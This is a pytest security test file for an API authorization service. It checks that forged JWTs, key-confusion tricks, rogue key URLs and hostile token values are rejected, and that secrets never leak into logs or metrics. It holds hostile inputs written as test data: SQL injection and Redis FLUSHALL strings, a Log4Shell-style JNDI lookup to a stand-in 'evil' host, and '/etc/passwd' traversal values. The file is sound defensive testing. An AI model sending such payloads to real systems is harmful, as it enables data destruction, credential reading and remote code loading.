"""A51 to A64: tokens, keys and what is kept of them; what is written down, and what may run."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import CliRunner
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from msgspec import structs
from prometheus_client.parser import text_string_to_metric_families

from authz.cli import cli
from authz.errors import Refused
from authz.identity.authentication import Authenticator
from authz.identity.credentials import KeyRing
from authz.identity.failures import LIMIT, MAX_SOURCES, Failures
from authz.identity.issuing import Actor
from authz.identity.jwks import FetchError, fetch
from authz.identity.keys import IssuedKey, digest, mint
from authz.model import Allow, Deny, Meter
from authz.quota.ledger import Held
from authz.reasons import Reason
from authz.settings import read_settings
from authz.store import open_store
from demo.stack import STAND_IN_KEY
from tests.attacks.door import Door, chat, refused
from tests.e2e.conftest import CHAT
from tests.identity.issuer import forged, jwk, key_set, private_key, serving, sign
from tests.identity.test_credentials import KEY as GOOD_KEY
from tests.identity.test_credentials import NOW_NS, identify, ring
from tests.issued import issuing, put
from tests.place import ROOT, START_NS, Place, lay_out, opened, opened_at
from tests.store import redis_server
from tests.store.builders import NOW, charge, hold

KEY, EVIL = private_key("k1"), private_key("evil")
ISSUER = "https://id.example"
NOW_S = START_NS // 10**9
CLAIMS: dict[str, Any] = {"iss": ISSUER, "aud": "authz", "sub": "bo", "exp": NOW_S + 600, "groups": ["Bots"]}
THROUGH_ENVOY = pytest.mark.xdist_group("attacks")


class Signed:
    """An engine that knows an issuer, and the server that has its keys."""

    def __init__(self, place: Place, server: Any) -> None:
        self.place, self.server = place, server

    def decide(self, token: str, *headers: tuple[str, str]) -> Allow | Deny:
        asked = self.place.request(token)
        decision = self.place.engine.pdp.decide(structs.replace(asked, headers=(*asked.headers, *headers)))
        assert isinstance(decision, Allow | Deny)
        return decision

    def refresh(self) -> None:
        engine = self.place.engine
        engine.key_sets.refresh(engine.bundle.directory.issuers.values(), self.place.time())

    def denied(self, token: str) -> None:
        before = self.place.engine.store.balances()
        decision = self.decide(token)
        assert isinstance(decision, Deny)
        assert (decision.status, decision.reason) == (401, Reason.INVALID_API_KEY)
        assert self.place.engine.store.balances() == before

    def allowed(self, token: str) -> Allow:
        decision = self.decide(token)
        assert isinstance(decision, Allow), decision
        return decision


@pytest.fixture
def signed(tmp_path: Path) -> Iterator[Signed]:
    config = lay_out(tmp_path)
    directory = tmp_path / "policies/directory.yaml"
    with serving(key_set(jwk("k1", KEY))) as server:
        issuer = f"{{issuer: '{ISSUER}', jwks_uri: '{server.url}', audience: [authz], claims: {{groups: [groups]}}"
        directory.write_text(f"{directory.read_text()}\nissuers:\n  id: {issuer}, groups: {{Bots: {{teams: [chatbot]}}}}}}\n")
        with opened_at(config) as place:
            found = Signed(place, server)
            found.refresh()
            yield found


def hmac_with(secret: bytes) -> str:
    unsigned = forged({"alg": "HS256", "kid": "k1"}, CLAIMS).rsplit(".", 1)[0]
    mac = hmac.new(secret, unsigned.encode(), hashlib.sha256).digest()
    return f"{unsigned}.{base64.urlsafe_b64encode(mac).rstrip(b'=').decode()}"


def test_a51_alg_none_confused_algorithms_and_embedded_keys_are_401(signed: Signed) -> None:
    public = KEY.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    for algorithm in ("none", "None", "NONE", "", "HS256", "RS257"):
        signed.denied(forged({"alg": algorithm, "kid": "k1"}, CLAIMS))
    for secret in (public, public.strip(), b"", json.dumps(jwk("k1", KEY)).encode()):
        signed.denied(hmac_with(secret))
    signed.denied(sign(CLAIMS, EVIL))
    signed.denied(sign(CLAIMS, EVIL, jwk=jwk("k1", EVIL)))
    signed.denied(sign(CLAIMS, EVIL, x5c=["MIIB"]))
    signed.denied(sign(CLAIMS, KEY, algorithm="RS512"))  # the right key, for which another algorithm is pinned
    signed.denied(sign(CLAIMS, KEY, algorithm="PS256"))
    signed.allowed(sign(CLAIMS, KEY))


def test_a52_a_storm_of_unknown_key_ids_is_one_fetch_a_minute_and_the_cached_keys_stay(signed: Signed) -> None:
    before = len(signed.server.paths)
    for second in range(120):
        for number in range(5):
            signed.denied(sign(CLAIMS, EVIL, kid=f"unknown-{second}-{number}"))
        signed.place.time.pass_s(1)
        signed.refresh()
    assert len(signed.server.paths) - before <= 2
    signed.server.answer = (500, {}, b"")  # and where the issuer fails meanwhile
    signed.place.time.pass_s(61)
    signed.denied(sign(CLAIMS, EVIL, kid="unknown"))
    signed.refresh()
    signed.allowed(sign(CLAIMS, KEY))


def test_a53_addresses_in_a_token_and_redirects_of_the_keys_are_ignored(signed: Signed) -> None:
    with serving(key_set(jwk("k1", EVIL))) as evil:
        for header in ({"jku": evil.url}, {"x5u": evil.url}, {"jku": evil.url, "jwk": jwk("k1", EVIL)}):
            signed.denied(sign(CLAIMS, EVIL, **header))
        for kid in ("../../etc/passwd", "/dev/null", "k1' UNION SELECT 'x'--", f"{evil.url}#k1", "k1\x00", "K1"):
            signed.denied(sign(CLAIMS, EVIL, kid=kid))
        signed.server.answer = (302, {"location": evil.url}, b"")
        signed.place.time.pass_s(3_700)
        signed.refresh()
        signed.denied(sign(CLAIMS | {"exp": NOW_S + 9_000}, EVIL))
        signed.allowed(sign(CLAIMS | {"exp": NOW_S + 9_000}, KEY))
        assert evil.paths == []
    for uri in ("http://keys.example/", "file:///etc/passwd", "ftp://127.0.0.1/", "http://127.0.0.1.evil.example/"):
        with pytest.raises(FetchError, match="not an https address"):
            fetch(uri)


@pytest.mark.parametrize("missing", ["aud", "iss", "exp"])
def test_a54_an_unknown_extension_or_a_claim_that_is_missing_is_401(signed: Signed, missing: str) -> None:
    signed.denied(sign({name: value for name, value in CLAIMS.items() if name != missing}, KEY))
    signed.denied(sign(CLAIMS, KEY, crit=["exp2"], exp2=1))
    signed.denied(sign(CLAIMS, KEY, crit=[]))
    wrong: dict[str, tuple[Any, ...]] = {
        "aud": ("other", [], [1], ""),
        "iss": (f"{ISSUER}/", "", 1),
        "exp": (1, "never", True, None),
    }
    for value in wrong[missing]:
        signed.denied(
            sign(CLAIMS | {missing: value}, KEY)
            if value != 1 or missing != "iss"
            else forged({"alg": "RS256", "kid": "k1"}, CLAIMS | {"iss": 1})
        )


def test_a55_what_is_remembered_is_remembered_by_all_of_it(signed: Signed) -> None:
    """Two tokens that agree in their first two parts, in their beginnings or in their ends are two tokens."""
    good = sign(CLAIMS, KEY)
    signed.allowed(good)
    other = sign(CLAIMS | {"sub": "mallory", "groups": []}, EVIL)
    head, payload, signature = good.split(".")
    flipped = ("B" if signature[10] == "A" else "A").join((signature[:10], signature[11:]))
    for forged_ in (
        f"{head}.{payload}.{flipped}",
        f"{head}.{payload}.{other.split('.')[2]}",
        f"{head}.{other.split('.')[1]}.{signature}",
        good[:-1],
        good[:64] + other[64:],
        good + "A",
    ):
        signed.denied(forged_)
    signed.allowed(good)
    issued = ring(IssuedKey(digest(GOOD_KEY), "plain", 1, sequence=1))
    for near in (GOOD_KEY[:-1], GOOD_KEY + "0", GOOD_KEY[:-1] + ("a" if GOOD_KEY[-1] != "a" else "b"), GOOD_KEY.upper()):
        with pytest.raises(Refused):
            identify(Authenticator(issued), f"Bearer {near}")


INJECTIONS = (
    "'; DROP TABLE issued_keys; --",
    "' OR '1'='1",
    '" OR ""="',
    "authz_' UNION SELECT digest FROM issued_keys--",
    "x\r\nFLUSHALL\r\n",
    "*1\r\n$8\r\nFLUSHALL\r\n",
    "{}",
    "%00",
    "${jndi:ldap://evil}",
)


@THROUGH_ENVOY
@pytest.mark.parametrize("text", INJECTIONS)
def test_a56_sql_and_redis_in_a_token_are_401_and_do_nothing(door: Door, text: str) -> None:
    body = json.dumps(chat()).encode()
    usual = (f"POST {CHAT} HTTP/1.1".encode(), b"Host: a", b"Connection: close", b"Content-Type: application/json")
    length = b"Content-Length: %d" % len(body)
    with door.untouched():
        reply = door.lines(*usual, b"Authorization: Bearer " + text.encode(), length, body=body, source=door.elsewhere())
        assert reply.status in (400, 401) if "\r" in text else reply.status == 401, reply
        assert reply.error
    door.admitted(door.ask)
    for uri in ("sqlite:///:memory:", f"{redis_server.shared().uri}?organisation=attacks"):
        store = open_store(uri)
        secret = mint(lambda alphabet: alphabet[0])
        if not store.keys_since(0):
            put(store, IssuedKey(digest(secret), "plain", 1))
        found = KeyRing(store)
        found.refresh()
        assert found.find(digest(text), NOW_NS) is None
        assert store.find(text) is store.find_by_request(text) is None
        assert found.find(digest(secret), NOW_NS) is not None
        store.close()


def test_a57_unknown_revoked_and_expired_keys_answer_alike(tmp_path: Path) -> None:
    """In the same words, headers and record; that it takes like time is measured in tests/identity/test_credentials.py."""
    with opened(tmp_path) as place:
        secrets = {name: place.issue("chatbot-prod") for name in ("revoked", "expired")}
        secrets["expired"] = place.issue("chatbot-prod", expires_ns=place.time() + 1)
        issuing(place.engine.store, place.time()).revoke(
            digest(secrets["revoked"]), Actor('User::"olivia"', "tester", "a test")
        )
        place.time.pass_s(2)
        place.engine.tick()
        secrets["unknown"] = mint(lambda alphabet: "Z")
        answers = set()
        for secret in secrets.values():
            decision = place.engine.pdp.decide(place.request(secret))
            assert isinstance(decision, Deny)
            record = decision.record
            answers.add((decision.status, decision.reason, decision.message, decision.headers, record.principal, record.team))
        assert answers == {(401, Reason.INVALID_API_KEY, "Invalid API Key", (), None, None)}
        assert place.engine.store.balances() == {}


def test_a58_nobody_gives_a_key_more_than_they_have(tmp_path: Path) -> None:
    config = lay_out(tmp_path)
    directory = tmp_path / "policies/directory.yaml"
    directory.write_text(
        directory.read_text() + "  owned: {team: chatbot, roles: [owner]}\n  of-olivia: {user: olivia, team: chatbot}\n"
    )

    def run(*arguments: str) -> Any:
        return CliRunner().invoke(cli, ["keys", *arguments, "--config", str(config)])

    for key in ("owned", "of-olivia"):
        for more in ((), ("--no-roles",)) if key == "of-olivia" else ((),):
            done = run("create", key, *more, "--as", "dev")
            assert done.exit_code != 0
            assert "does not have role `owner`" in str(done.exception) + done.output or "acts for" in str(done.exception)
    for user in ("rhea", "ana", "nobody"):
        assert run("create", "chatbot-prod", "--as", user).exit_code != 0
    store = open_store(read_settings(config).store)
    assert store.keys_since(0) == ()
    store.close()
    assert run("create", "chatbot-prod", "--as", "dev").exit_code == 0


def test_a59_brute_force_meets_a_limiter_of_bounded_memory(tmp_path: Path) -> None:
    with opened(tmp_path) as place:
        secret = place.issue("chatbot-prod")

        def answer(source_ip: str) -> Deny | Allow:
            decision = place.engine.pdp.decide(structs.replace(place.request("authz_wrong"), source_ip=source_ip))
            assert isinstance(decision, Deny)
            return decision

        answers = [answer("10.0.0.1") for _ in range(LIMIT + 20)]
        assert [each.status for each in answers if isinstance(each, Deny)] == [401] * LIMIT + [429] * 20
        good = place.engine.pdp.decide(structs.replace(place.request(secret), source_ip="10.0.0.1"))
        assert isinstance(good, Allow), "who has a key is not locked out by who has none"
    failures = Failures()
    for number in range(3 * MAX_SOURCES):
        failures.count(f"10.{number >> 16}.{number >> 8 & 255}.{number & 255}", NOW_NS)
    assert len(failures) <= MAX_SOURCES


CANARY = "canary-7f3a9c"
SECRET_IN = {
    "authorization": "Bearer authz_CANARY7f3a9cCANARY7f3a9cCANARY7f3a9cCANARY",
    "x-api-key": f"{CANARY}-in-a-header",
    "cookie": f"session={CANARY}-in-a-cookie",
}


@THROUGH_ENVOY
def test_a60_canaries_are_in_nothing_that_is_written_or_shown(door: Door) -> None:
    """The client's key, the upstream's, the prompt and the answer: not in logs, records, metrics, or files of ours."""
    prompt = [{"role": "user", "content": f"{CANARY}-in-a-prompt"}]
    door.admitted(
        lambda: door.ask(messages=prompt, user=f"{CANARY}-user", metadata={CANARY: CANARY}),
        lambda: door.ask(messages=prompt, stream=True),
    )
    wrong: tuple[dict[str, Any], ...] = (
        {"model": f"{CANARY}-model"},
        {CANARY: 1},
        {"n": 2},
        {"model": "openai/gpt-oss-120b"},
        {"service_tier": CANARY},
    )
    shown = [door.ask(messages=prompt, **fields).body for fields in wrong]
    shown.append(door.post(f'{{"{CANARY}":'.encode()).body)
    for path in (f"/openai/v1/models/{CANARY}", f"/openai/v1/{CANARY}?key={CANARY}", f"/{CANARY}"):
        door.lines(f"GET {path} HTTP/1.1".encode(), b"Host: a", b"Connection: close", door.bearer())
    body = json.dumps(chat(messages=prompt))
    assert httpx.post(door.stack.url + CHAT, content=body, headers=SECRET_IN, trust_env=False).status_code in (401, 429)
    door.settled()
    outputs = {
        "metrics": door.metrics().encode(),
        "usage": door.stack.command("usage", "--json").encode(),
        "keys": door.stack.command("keys", "list", "--json").encode(),
        "health": door.stack.command("health").encode(),
        "envoy's admin": door.stack.envoy.admin("/stats"),
    }
    outputs |= {
        path.name: path.read_bytes() for path in door.stack.folder.rglob("*") if path.is_file() and path.suffix != ".db-shm"
    }
    assert {"authz.db", "decisions.jsonl", "sidecar.log", "envoy.log", "metrics"} <= outputs.keys()
    secrets = [*door.keys.values(), STAND_IN_KEY, "CANARY7f3a9c", f"{CANARY}-in-a", f"{CANARY}-user"]
    for where, raw in outputs.items():
        for secret in secrets:
            assert secret.encode() not in raw, f"{secret[:12]}… is in {where}"
    for raw in shown:
        for secret in (*door.keys.values(), STAND_IN_KEY, f"{CANARY}-in-a-prompt"):
            assert secret.encode() not in raw
    assert not list(door.stack.folder.rglob("core*"))


BREAKS = ("\n", "\r\n", "\u2028", "\u0085", "\x1b[2J", '"}\n{"kind":"decision","effect":"allow"}\n')


@THROUGH_ENVOY
def test_a61_one_event_is_one_json_line_whatever_a_client_writes(door: Door) -> None:
    for text in BREAKS:
        refused(door, chat(model=f"x{text}y"), 404)
        refused(door, chat(**{f"x{text}": 1}), 400)
        door.admitted(lambda text=text: door.ask(user=text, messages=[{"role": "user", "content": text}]))  # type: ignore[misc]
    raw = door.lines(b"GET /openai/v1/models/x%0a%7b HTTP/1.1", b"Host: a", b"Connection: close", door.bearer())
    assert raw.status in (400, 404)
    for path in (door.stack.records, door.stack.sidecar.log_path):
        for line in path.read_bytes().splitlines():
            row = json.loads(line)
            assert isinstance(row, dict)
            assert row.get("kind", "decision") in ("decision", "settlement")
            assert not re.search(rb"[\x00-\x1f\x7f]", line)


@THROUGH_ENVOY
def test_a62_a_clients_text_never_becomes_a_label(door: Door) -> None:
    before = series(door)
    for number in range(20):
        name = f"label-{number}-{time.time_ns()}"
        door.ask(model=name)
        door.post(chat() | {name: 1})
        door.ask(service_tier=name)
        door.lines(f"GET /openai/v1/{name} HTTP/1.1".encode(), b"Host: a", b"Connection: close", door.bearer())
    after = series(door)
    assert not [each for each in after if "label-" in each]
    assert len(after - before) < 20, "memory that a client makes grow"


def series(door: Door) -> set[str]:
    families = text_string_to_metric_families(door.metrics())
    return {f"{sample.name}{sorted(sample.labels.items())}" for family in families for sample in family.samples}


def test_a63_dependencies_are_pinned_with_hashes_and_nothing_runs_by_itself() -> None:
    for name in ("runtime", "dev", "build"):
        text = (ROOT / f"requirements/{name}.txt").read_text()
        rows = [row for row in re.sub(r"\\\n", " ", text).splitlines() if row.strip() and not row.lstrip().startswith("#")]
        assert rows
        for row in rows:
            assert re.match(r"^[A-Za-z0-9._\[\]-]+==\S+ ", row), row
            assert "--hash=sha256:" in row, row
        assert "http" not in text.split("# via")[0]
    installs = (ROOT / "Makefile").read_text() + (ROOT / "Dockerfile").read_text()
    assert installs.count("--require-hashes") >= 2
    packed = [
        path
        for path in (ROOT / "authz").rglob("*")
        if path.suffix == ".pth" or path.name in ("sitecustomize.py", "usercustomize.py")
    ]
    assert not packed


def test_a64_names_in_redis_are_digests_and_no_brace_is_smuggled() -> None:
    server = redis_server.shared()
    before = set(server.client.keys("*"))
    stores = []
    for name in ("attacks-a64", "{x}", "}{", "a}b", "*", "a:b"):
        query = "".join(f"%{byte:02x}" for byte in name.encode())
        store = open_store(f"{server.uri}?organisation={query}")
        stores.append(store)
        wanted = hold(charge(Meter.SPEND, 1, 2, name), id=f"{name}!", request_id=f"{name}!")
        assert isinstance(store.reserve(wanted, NOW), Held)
        put(store, IssuedKey(digest(name), name, 1))
    made = {key.decode() for key in set(server.client.keys("*")) - before}
    assert all(re.fullmatch(r"authz:\{[0-9a-f]{16}\}:[a-z_]+", key) for key in made), made
    assert len({key.split("}")[0] for key in made}) == len(stores), (
        "one slot for each organisation, which sees none of the others"
    )
    for store in stores:
        assert len(store.balances()) == 1
        store.close()
